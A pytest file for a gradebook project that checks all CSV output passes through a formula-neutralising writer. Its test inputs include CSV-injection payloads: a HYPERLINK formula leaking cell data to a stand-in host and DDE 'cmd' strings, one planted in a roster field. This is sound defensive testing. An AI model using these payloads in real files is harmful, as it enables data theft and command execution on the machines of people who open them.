"""Every CSV the project writes neutralises spreadsheet formulas (issue 10, "Also").

Names and text reach CSVs from Gradescope exports and rosters; a cell starting with ``=``,
``+``, ``-`` or ``@`` would run as a formula when a TA opens the file. One writer
(:mod:`gradebook.csvsafe`) neutralises them, and this test fails when any other code writes CSV
itself.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from gradebook import api, csvsafe
from tito.paths import REPO_ROOT

PRODUCT = ["tito", "autograder", "gradebook", "staff", "milestones", "tinytorch_data",
           "tinytorch_milestones", "bench"]
WRITERS = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|\bDictWriter\(")
# Writes fixed sample inputs from constants in the file (no outside text), and must run as a
# plain script without the repository on sys.path; its output is compared byte for byte.
EXEMPT = {"gradebook/csvsafe.py", "samples/term/generate.py"}
EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
        "@SUM(A1:A9)", "\t=1+1"]


def test_no_module_writes_csv_except_through_csvsafe() -> None:
    offenders = []
    for top in PRODUCT:
        for path in sorted((REPO_ROOT / top).rglob("*.py")) if (REPO_ROOT / top).is_dir() else []:
            rel = path.relative_to(REPO_ROOT).as_posix()
            if rel in EXEMPT or "/suites/" in rel:
                continue
            for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if WRITERS.search(line) and not line.lstrip().startswith("#"):
                    offenders.append(f"{rel}:{i}: {line.strip()}")
    assert not offenders, "write CSV through gradebook.csvsafe:\n" + "\n".join(offenders)


@pytest.mark.parametrize("text", EVIL)
def test_formula_prefixes_are_neutralised(text: str) -> None:
    assert csvsafe.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-4", "+2.5", "-1e-3", -4.0, 3, "Ada", "", None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert csvsafe.neutralise(value) == value


def test_write_frame_and_rows(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": EVIL, "delta": [-1.0, 2.0, -3.0, 0.0, 1.5]})
    csvsafe.write_frame(frame, tmp_path / "f.csv")
    back = pd.read_csv(tmp_path / "f.csv")
    assert [n[0] for n in back["name"]] == ["'"] * len(EVIL)
    assert list(back["delta"]) == [-1.0, 2.0, -3.0, 0.0, 1.5]
    csvsafe.write_rows(tmp_path / "r.csv", ["name", "delta"], [[EVIL[0], -4]])
    with (tmp_path / "r.csv").open(newline="") as fh:
        assert list(csv.reader(fh))[1] == ["'" + EVIL[0], "-4"]


def test_canvas_export_neutralises_a_hostile_roster_name(tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n"
                      f"\"{EVIL[0].replace(chr(34), chr(34) * 2)}\",1,S1,ada,=cmd|' /C calc'!A0\n")
    store = tmp_path / "gb.sqlite"
    api.roster(roster, store=store)
    out = api.export(fmt="canvas", output=tmp_path / "canvas.csv", store=store, as_of="final")
    with out.open(newline="") as fh:
        rows = list(csv.reader(fh))
    student = next(r for r in rows if r[2] == "S1")
    assert student[0] == "'" + EVIL[0] and student[4] == "'=cmd|' /C calc'!A0"
    gs = api.export(fmt="gradescope", output=tmp_path / "gs.csv", store=store, as_of="final")
    text = gs.read_text()
    assert "\n=" not in text and ",=" not in text and ",\"=" not in text
